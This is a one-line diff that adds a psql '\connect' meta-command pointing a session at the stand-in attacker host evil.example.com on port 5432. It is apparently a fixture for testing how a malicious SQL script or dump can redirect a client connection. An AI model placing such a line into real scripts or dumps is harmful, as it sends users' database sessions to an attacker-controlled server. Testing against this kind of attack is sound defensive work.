@@ -1,0 +1,1 @@
+\connect db user evil.example.com 5432
